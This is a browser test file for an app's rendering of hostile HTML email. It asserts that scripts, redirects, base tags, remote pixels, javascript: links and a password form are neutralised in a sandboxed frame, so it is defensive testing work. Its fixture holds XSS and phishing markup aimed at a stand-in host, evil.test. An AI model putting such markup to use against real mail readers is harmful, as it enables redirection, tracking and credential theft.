import { afterAll, beforeAll, expect } from "bun:test";
import { answerRequest } from "../../src/web/app.ts";
import { aBrowser, browserTest, scrollsSideways } from "../browser.ts";
import { png } from "../mail/content/a-mail.ts";
import { aHouse, cleo, signedInAs, type TestHouse } from "./a-house.ts";
import { cleoMails, withGateway } from "./a-mailed-case.ts";

let house: TestHouse;
let server: ReturnType<typeof Bun.serve>;
let url = "";
let mail = "";
const asked: string[] = [];
const browser = aBrowser();

const hostile = `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">
<style>body{background:url(https://evil.test/a.png)} .x{position:fixed}</style><script>top.location="https://evil.test/"</script>
<h1 id="words" style="position:fixed;color:red">Look at this cake</h1><img src="cid:cake@home" alt="The cake" width="40">
<img src="https://evil.test/pixel.gif" onerror="alert(1)"><a href="javascript:alert(1)">run</a> <a href="https://shop.test/">shop</a>
<form action="https://evil.test/"><input name="password"></form><table width="1200"><tr><td>wide</td></tr></table>`;

beforeAll(async () => {
  house = await aHouse("sqlite", withGateway);
  server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: (request) => {
      asked.push(new URL(request.url).pathname);
      return answerRequest(house.app, house, request);
    },
  });
  url = `http://localhost:${server.port}`;
  house.world.config.url = url;
  await house.respond({ score: 1, comment: "Nobody helped me.", customer: cleo });
  mail = await cleoMails(house, 1, [
    { type: "text/html; charset=utf-8", body: hostile },
    {
      type: "image/png",
      headers: ["Content-ID: <cake@home>", 'Content-Disposition: inline; filename="cake.png"'],
      body: png,
    },
    {
      type: "application/pdf",
      headers: ['Content-Disposition: attachment; filename="receipt.pdf"'],
      body: Buffer.from("%PDF-1.4"),
    },
  ]);
});

afterAll(async () => {
  await browser.close();
  await server?.stop(true);
  await house?.close();
});

async function annsProfile() {
  const { cookie } = await signedInAs(house, "ann");
  const [name = "", value = ""] = cookie.split("=");
  const sid = { name, value, domain: "localhost", path: "/", expires: -1, httpOnly: true, secure: false };
  return { storageState: { cookies: [{ ...sid, sameSite: "Lax" as const }], origins: [] } };
}

browserTest(
  "a hostile mail is loaded when it is opened, shows its picture, and can do nothing",
  async () => {
    const context = await annsProfile();
    const { page, errors, strangers, close } = await browser.look(`${url}/cases/1`, { width: 320, context });
    await page.locator("details.formatted summary").scrollIntoViewIfNeeded();
    expect(asked).not.toContain(`/cases/1/mails/${mail}/formatted`);
    await page.click("details.formatted summary");
    const frame = page.frameLocator("iframe.formatted-frame");
    await frame.locator("h1:has-text('Look at this cake')").waitFor();
    expect(asked).toContain(`/cases/1/mails/${mail}/formatted`);
    const cake = frame.locator("img[alt='The cake']");
    expect(await cake.evaluate((it: { naturalWidth: number }) => it.naturalWidth)).toBe(1);
    expect(await frame.locator("h1").getAttribute("style")).toBe("color:red");
    expect(await frame.locator("p.note").textContent()).toBe("1 remote image not shown");
    expect(await frame.locator("img, form, input, style + style, base").count()).toBe(1);
    expect(await frame.locator("a").allTextContents()).toEqual(["run", "shop"]);
    expect(await frame.locator("a").first().getAttribute("href")).toBeNull();
    const thumbnail = page.locator(".picture img");
    await thumbnail.scrollIntoViewIfNeeded();
    await thumbnail.evaluate((it: { decode(): Promise<void> }) => it.decode());
    expect(await scrollsSideways(page)).toBe(false);
    expect(page.url()).toBe(`${url}/cases/1`);
    expect([errors, strangers]).toEqual([[], []]);
    await close();
  },
  30_000,
);

browserTest(
  "the files of a mail pass axe in light and dark",
  async () => {
    const context = await annsProfile();
    for (const dark of [false, true]) await browser.axe(`${url}/cases/1`, { dark, width: dark ? 390 : 1280, context });
  },
  60_000,
);
